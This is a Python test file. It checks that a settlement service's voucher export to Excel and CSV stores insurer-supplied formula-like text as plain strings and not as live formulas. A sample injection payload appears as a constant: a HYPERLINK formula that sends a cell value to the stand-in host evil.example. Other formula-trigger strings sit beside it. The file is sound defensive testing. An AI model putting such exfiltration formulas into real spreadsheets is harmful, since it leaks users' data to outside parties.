"""The provider's vouchers export on moto: text loaded by an insurer that looks like a
spreadsheet formula reaches the Excel and CSV files as text, never as a live formula."""

from __future__ import annotations

import csv
import io
from datetime import date

from chalicelib.settlement import service
from chalicelib.settlement.schemas import VouchersQuery
from tests.service.settlement.conftest import World, bono
from tests.service.settlement.test_settlement import WEEK_END, _download

LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Ver")'
PAYER = "+SUM(1,1)"
INSURER = "@SUM(1,1)"
MINUS = "-1+1"


def _export(world: World, file_format: str) -> bytes:
    loaded = service.load_transactions_by_operator(
        world.operator,
        [
            {**bono("X1", "2026-11-16", place=LEAK, payer=PAYER), "insurer": INSURER},
            bono("X2", "2026-11-17", place=MINUS),
        ],
    )
    assert loaded.accepted == 2
    service.run_inline(WEEK_END, ["sec"])
    query = VouchersQuery(
        **{"from": date(2026, 11, 1), "to": date(2026, 11, 30), "format": file_format}
    )
    return _download(service.vouchers_export(world.provider, query).url)


def test_hostile_voucher_text_is_a_string_cell_in_the_excel(world: World) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(_export(world, "xlsx"))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_folio = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    hostile = by_folio["X1"]
    assert (hostile[4].value, hostile[9].value, hostile[10].value) == (PAYER, INSURER, LEAK)
    assert {hostile[i].data_type for i in (4, 9, 10)} == {"s"}
    assert (by_folio["X2"][10].value, by_folio["X2"][10].data_type) == (MINUS, "s")
    # Numbers stay numbers with their format, dates stay dates.
    assert isinstance(hostile[5].value, int)
    assert hostile[5].number_format == '"$"#,##0'
    assert hostile[1].is_date
    assert hostile[1].number_format == "dd-mm-yyyy"
    totals = list(sheet.iter_rows(values_only=True))[-1]
    assert totals[0] == "Total"
    assert totals[5] == sum(r[5].value for r in by_folio.values() if r[0].value != "Total")


def test_hostile_voucher_text_is_quoted_in_the_csv(world: World) -> None:
    text = _export(world, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][0] == "Folio bono"
    by_folio = {row[0]: row for row in rows[1:-1]}
    hostile = by_folio["X1"]
    assert (hostile[4], hostile[9], hostile[10]) == (f"'{PAYER}", f"'{INSURER}", f"'{LEAK}")
    assert by_folio["X2"][10] == f"'{MINUS}"
    assert hostile[1] == "2026-11-16"
    assert hostile[5] == "29000"
    assert rows[-1][0] == "Total"
